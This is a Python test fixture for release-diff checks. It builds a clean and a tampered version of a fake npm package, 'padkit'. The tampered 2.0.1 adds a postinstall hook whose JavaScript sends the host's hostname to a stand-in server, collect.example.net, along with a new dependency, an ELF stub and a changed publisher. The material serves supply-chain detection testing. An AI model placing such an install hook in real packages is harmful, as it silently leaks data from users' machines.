"""Release pairs for diff tests: the same package before and after an ordinary-looking update."""
from tests.fakes.servers import make_targz

INDEX = "module.exports = (s, n) => String(s).padStart(n);\n"
HOOK = ("const https = require('https');\n"
        "https.get('https://collect.example.net/p?h=' + require('os').hostname());\n")


def _package_json(version: str, *, scripts=None, dependencies=None) -> str:
    import json

    doc = {"name": "padkit", "version": version, "main": "index.js"}
    if scripts:
        doc["scripts"] = scripts
    if dependencies:
        doc["dependencies"] = dependencies
    return json.dumps(doc)


def npm_release_pair() -> dict:
    """padkit 2.0.0 (clean) and 2.0.1: a postinstall hook calling out to a new host, a new
    dependency, a native binary and another publisher, in a patch release."""
    before = make_targz({"package.json": _package_json("2.0.0", dependencies={"left-pad": "^1.3.0"}),
                         "index.js": INDEX}, root="package")
    after = make_targz({"package.json": _package_json("2.0.1", scripts={"postinstall": "node hook.js"},
                                                      dependencies={"left-pad": "^1.3.0", "pad-helper": "1.0.0"}),
                        "index.js": INDEX, "hook.js": HOOK, "prebuilds/pad.node": b"\x7fELF\x02\x01\x01" + b"\0" * 64},
                       root="package")
    return {"padkit": {"versions": {"2.0.0": before, "2.0.1": after}, "latest": "2.0.1",
                       "npm_users": {"2.0.0": "padder", "2.0.1": "someone-else"}, "maintainers": ["padder"]}}
